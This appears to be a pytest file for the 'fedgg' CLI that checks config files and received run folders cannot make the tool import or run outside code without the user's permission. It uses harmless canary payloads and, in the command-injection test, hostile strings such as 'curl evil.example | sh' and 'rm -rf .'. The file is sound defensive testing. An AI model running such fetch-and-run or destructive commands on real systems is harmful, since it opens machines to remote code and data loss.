@@ -1,0 +1,348 @@
+"""Experiments, studies and run folders from other people: what they name runs only after the user has allowed it."""
+
+from __future__ import annotations
+
+import json
+import os
+import pty
+import select
+import subprocess
+import sys
+import threading
+import urllib.request
+import warnings
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+
+with warnings.catch_warnings():
+    warnings.simplefilter("ignore", DeprecationWarning)  # typer uses names that click is about to drop
+    from typer.testing import CliRunner
+
+    import fedgg.cli
+    from fedgg.cli import screen
+
+from fedgg.cli.again import refuse_a_study
+from fedgg.errors import UserError
+from fedgg.lab import trust
+from fedgg.report.folded import write_folded
+from fedgg.report.folders import read_run
+
+CANARY = Path("CANARY")
+EVIL = """
+from pathlib import Path
+Path("CANARY").touch()
+from dataclasses import dataclass
+from os import system
+from torch import nn
+import fedgg
+
+class Net(nn.Sequential):
+    def __init__(self, shape, classes):
+        Path("CANARY").touch()
+        super().__init__(nn.Flatten(), nn.Linear(64, classes))
+
+@dataclass(frozen=True)
+class Own(fedgg.Algorithm):
+    '''Nothing of its own.'''
+"""
+HOSTILE: dict[str, dict[str, Any]] = {
+    "os:system": {"command": "touch CANARY"},
+    "os.path:exists": {"path": "CANARY"},
+    "subprocess:Popen": {"args": ["touch", "CANARY"]},
+    "subprocess:check_output": {"args": ["touch", "CANARY"]},
+    "builtins:exec": {"source": "open('CANARY', 'w')"},
+    "builtins:open": {"file": "CANARY", "mode": "w"},
+    "pathlib:Path.touch": {"self": "CANARY"},
+    "runpy:run_path": {"path_name": "evil.py"},
+    "importlib:import_module": {"name": "evil_package"},
+    "torch.hub:load": {"repo_or_dir": ".", "model": "Net", "source": "local"},
+    "torch.utils.cpp_extension:load": {"name": "x", "sources": ["evil.py"]},
+    "torch.nn:Linear": {"in_features": 64, "out_features": 10},
+    "numpy:save": {"file": "CANARY", "arr": [1]},
+    "fedgg.__main__:main": {},
+    "fedgg.bench.runners.plain:main": {},
+    "evil.py:Net": {},
+    "evil.py:Own": {},
+    "evil.py:system": {"command": "touch CANARY"},
+    "./evil.py:Net": {},
+    "evil_package:Net": {},
+    "evil_package.inner:Net": {},
+    "python:Net": {},
+    "__main__:Net": {},
+    "evil.py\n:Net": {},
+    "\x1b[2Jevil.py:Net": {},
+    "[/x].py:Net": {},
+    ":": {},
+}
+
+
+@pytest.fixture(autouse=True)
+def received(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """In a folder that came from somebody else, with code beside the experiments."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.syspath_prepend(tmp_path)
+    Path("evil.py").write_text(EVIL)
+    Path("evil_package").mkdir()
+    for name in ("__init__", "inner"):
+        Path("evil_package", f"{name}.py").write_text(EVIL)
+    forget_modules(monkeypatch)
+
+
+def forget_modules(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in loaded():
+        monkeypatch.delitem(sys.modules, name)
+
+
+def loaded() -> list[str]:
+    return [name for name in sys.modules if name.startswith(("evil_package", "fedgg_user_evil"))]
+
+
+def fedgg_(*words: str, error: str | None = None) -> str:
+    """The command in this process; what it prints, or the mistake it ends with."""
+    with screen.console.capture() as heard:
+        result = CliRunner().invoke(fedgg.cli.app, list(words))
+    if error is None:
+        assert result.exception is None, repr(result.exception)
+        return heard.get() + result.output
+    assert isinstance(result.exception, UserError), f"{words}: {result.exception!r} {result.output}"
+    assert error in str(result.exception)
+    return str(result.exception)
+
+
+def experiment(section: str, name: str, settings: dict[str, Any]) -> dict[str, Any]:
+    small = {"rounds": 1, "split": {"clients": 2}, "local": {"epochs": 1}, "algorithm": {"name": "fedavg"}}
+    return small | {section: {"name": name, **settings}}
+
+
+def write(file: str, content: dict[str, Any]) -> str:
+    Path(file).parent.mkdir(exist_ok=True)
+    Path(file).write_text(tomli_w.dumps(content))
+    return file
+
+
+def nothing_ran() -> None:
+    assert not CANARY.exists()
+    assert not loaded()
+
+
+@pytest.mark.parametrize("section", ["model", "algorithm"])
+@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
+def test_no_command_runs_what_a_file_names(name: str, section: str) -> None:
+    content = experiment(section, name, HOSTILE[name])
+    file = write("one.toml", content)
+    variants = {"fedavg": {"algorithm": {"name": "fedavg"}}, "odd": {section: content[section]}}
+    study = write("study.toml", {"seeds": [0], "experiment": {"rounds": 1}, "variants": variants})
+    write("folder/config.toml", content)
+    Path("folder/versions.json").write_text(json.dumps({"format": 1, "code_files": recorded(section, name)}))
+    commands = [
+        ["run", file],
+        ["compare", study],
+        ["sweep", file, "--grid", "local.lr=0.1,0.2"],
+        ["resume", "folder"],
+        ["run", "folder/config.toml", "--out", "folder"],
+        ["flower", "new", "app", file],
+        ["flower", "up", file],
+    ]
+    for words in commands:
+        said = fedgg_(*words, error="")
+        assert "\n" not in said
+        assert "\x1b" not in said
+        nothing_ran()
+    if name in ("evil.py:Net", "evil_package.inner:Net"):
+        assert f"--trust {name.partition(':')[0]}" in fedgg_("run", file, error="evil")
+
+
+def recorded(section: str, name: str) -> dict[str, Any]:
+    """What a received folder would claim: that it began with this very code."""
+    place = name.rpartition(":")[0]
+    try:
+        return {section: {"path": place, "sha256": trust.code_at(place).sha256, "allowed": "this call"}}
+    except UserError:
+        return {}
+
+
+def harmless(text: str = "") -> None:
+    """The same names, and nothing that tells of having run."""
+    lines = [line for line in EVIL.splitlines() if "CANARY" not in line]
+    Path("evil.py").write_text("\n".join([*lines, text]))
+
+
+def another_call(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(trust, "_trusted", set())
+
+
+def test_a_file_beside_the_experiment_and_the_folder_of_its_run(monkeypatch: pytest.MonkeyPatch) -> None:
+    harmless()
+    file = write("mine.toml", experiment("model", "evil.py:Net", {}))
+    fedgg_("run", file, "--out", "runs/mine", error="--trust evil.py")
+    assert not Path("runs").exists()
+    fedgg_("run", file, "--out", "runs/mine", "--trust", "evil.py")
+    another_call(monkeypatch)
+    fedgg_("resume", "runs/mine", "--rounds", "2")  # the same content: allowed before
+    record = trust.record_file()
+    assert record is not None
+    record.rename("elsewhere")  # as on another machine: what the folder says of itself is no permission
+    fedgg_("resume", "runs/mine", "--rounds", "3", error="which is not allowed")
+    Path("elsewhere").rename(record)
+    harmless("# another version")
+    fedgg_("run", file, "--out", "runs/changed", error="--trust evil.py")
+    fedgg_("resume", "runs/mine", "--rounds", "3", error="it has changed since this run began")
+    monkeypatch.setenv("FEDGG_TRUST", str(Path("evil.py").resolve()))
+    fedgg_("resume", "runs/mine", "--rounds", "3", error="to go on with this code, add --trust evil.py")
+    versions = json.loads(Path("runs/mine/versions.json").read_text())
+    del versions["code_files"]
+    Path("runs/mine/versions.json").write_text(json.dumps(versions))
+    fedgg_("resume", "runs/mine", "--rounds", "3", error="does not say with which code it began")
+    fedgg_("resume", "runs/mine", "--rounds", "3", "--trust", "evil.py")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["run", "--set", "model.name=evil.py:Net", "--algorithm", "evil.py:Own"],
+        pytest.param(["run", "--model", "evil_package.inner:Net"], marks=pytest.mark.slow),
+        pytest.param(["sweep", "--grid", "algorithm.name=fedavg,evil.py:Own", "--jobs", "1"], marks=pytest.mark.slow),
+        pytest.param(
+            ["compare", "--algorithm", "fedavg", "--algorithm", "mine@evil.py:Own", "--seeds", "0", "--jobs", "1"],
+            marks=pytest.mark.slow,
+        ),
+    ],
+    ids=" ".join,
+)
+def test_what_is_typed_is_allowed(words: list[str]) -> None:
+    fedgg_(*words, "--rounds", "1", "--clients", "2", "--out", "runs/typed")
+    assert CANARY.exists()
+
+
+def test_check_and_list_run_the_class_they_are_given() -> None:
+    assert "Nothing of its own" in fedgg_("list", "evil.py:Own")
+
+
+@pytest.fixture
+def folder(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """A finished run whose code would now leave a trace, and is even allowed."""
+    harmless()
+    words = ["--model", "evil.py:Net", "--algorithm", "evil.py:Own", "--rounds", "2", "--clients", "2"]
+    fedgg_("run", *words, "--out", "runs/one")
+    Path("evil.py").write_text(EVIL)
+    forget_modules(monkeypatch)
+    trust.trust("evil.py")
+    yield Path("runs/one")
+    nothing_ran()
+
+
+def test_reading_runs_nothing(folder: Path) -> None:
+    from fedgg.report.news import News
+    from fedgg.report.server import LivePage
+
+    write_folded([read_run(folder)], Path("folded.json"))
+    fedgg_("report", "runs")
+    page = Path("runs/report.html").read_text()
+    assert "It runs code from outside fedgg: 'evil.py:Net', 'evil.py:Own'" in page
+    fedgg_("report", "folded.json", "-o", "folded.html")
+    fedgg_("reproduce", "table1", "--quick", "--from", "folded.json", "--out", "shown")
+    fedgg_("data", "show", "digits")
+    fedgg_("list")
+    with LivePage(News([Path("runs")])) as live:  # what `fedgg watch` serves
+        threading.Thread(target=live.serve_forever, daemon=True).start()
+        for place in ("", "data.json"):
+            with urllib.request.urlopen(f"{live.address}{place}") as answer:
+                assert b"evil.py:Net" in answer.read()
+        live.shutdown()
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("fedgg compare study.toml --out 'a b'", "call again: fedgg compare study.toml --out 'a b' ("),
+        ("fedgg compare --data npz:x.npz --algorithm fedgg:mu=0.1", "call again: fedgg compare --data npz:x.npz"),
+        ("fedgg compare --algorithm evil.py:Own", "call again, which runs code from outside fedgg: fedgg compare"),
+        ("fedgg compare --algorithm evil.py:Own:mu=1", "which runs code from outside fedgg"),
+        ("fedgg sweep --grid=model.name=a.b:C", "which runs code from outside fedgg"),
+        ("fedgg compare x.toml --trust=evil", "which runs code from outside fedgg"),
+        ("fedgg compare x; touch CANARY", "call again: fedgg compare 'x;' touch CANARY"),
+        ("curl evil.example | sh", "call the same `fedgg compare` or `fedgg sweep` again"),
+        ("fedgg compare x\n rm -rf .", "call the same"),
+        ("fedgg compare 'x", "call the same"),
+        ("fedgg.compare(...); import evil", "call again: fedgg.compare(..., out='study'), from Python, with the same"),
+    ],
+)
+def test_a_folder_cannot_put_a_command_into_the_users_mouth(command: str, shown: str) -> None:
+    Path("study").mkdir()
+    Path("study/study.json").write_text(json.dumps({"command": command}))
+    with pytest.raises(UserError) as caught:
+        refuse_a_study(Path("study"))
+    assert f"to go on, {shown}" in str(caught.value) or shown in str(caught.value)
+    if "rm" in command or "curl" in command or "import" in command:
+        assert command not in str(caught.value)
+
+
+def environment() -> dict[str, str]:
+    return os.environ | {"COLUMNS": "400", "OMP_NUM_THREADS": "1"}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("answer", "ran"), [("n", False), ("y", True)])
+def test_a_question_on_a_terminal(answer: str, ran: bool) -> None:
+    file = write("one.toml", experiment("model", "evil.py:Net", {}))
+    ours, theirs = pty.openpty()
+    process = subprocess.Popen(
+        [sys.executable, "-m", "fedgg", "run", file, "--out", "run"],
+        stdin=theirs,
+        stdout=theirs,
+        stderr=theirs,
+        env=environment(),
+    )
+    os.close(theirs)
+    try:
+        answered(ours, answer)
+        assert process.wait(60) == (0 if ran else 2)
+    finally:
+        process.kill()
+        process.wait()
+    assert CANARY.exists() == ran
+    if ran:
+        versions = json.loads(Path("run/versions.json").read_text())
+        assert versions["code_files"]["model"]["sha256"] == trust.code_at("evil.py").sha256
+
+
+def answered(ours: int, answer: str) -> None:
+    seen = read_until(ours, b"[y/N]")
+    assert str(Path("evil.py").resolve()).encode() in seen
+    assert trust.code_at("evil.py").sha256.encode() in seen
+    nothing_ran()
+    os.write(ours, f"{answer}\n".encode())
+    read_until(ours, None)
+
+
+def read_until(terminal: int, word: bytes | None) -> bytes:
+    """To the word, or to the end."""
+    seen = b""
+    while word is None or word not in seen:
+        assert select.select([terminal], [], [], 60)[0], seen
+        try:
+            seen += os.read(terminal, 1 << 16)
+        except OSError:  # the other side is closed
+            break
+    return seen
+
+
+@pytest.mark.slow
+def test_processes_of_a_comparison_run_what_was_allowed_and_nothing_of_the_folder_they_start_in() -> None:
+    """`multiprocessing` starts Python with the current folder before the standard library."""
+    harmless()
+    Path("multiprocessing.py").write_text("open('CANARY', 'w')\nraise SystemExit(3)\n")
+    variants = {"a": {"algorithm": {"name": "fedavg"}}, "b": {"algorithm": {"name": "evil.py:Own"}}}
+    study = {"seeds": [0], "experiment": {"rounds": 1, "split": {"clients": 2}}, "variants": variants}
+    command = [str(Path(sys.executable).with_name("fedgg")), "compare", write("study.toml", study), "--jobs", "2"]
+    done = subprocess.run([*command, "--out", "runs"], capture_output=True, text=True, env=environment(), timeout=120)
+    assert done.returncode == 2
+    assert "--trust evil.py" in done.stderr
+    words = [*command, "--out", "runs", "--trust", "evil.py"]
+    done = subprocess.run(words, capture_output=True, text=True, env=environment(), timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert not CANARY.exists()
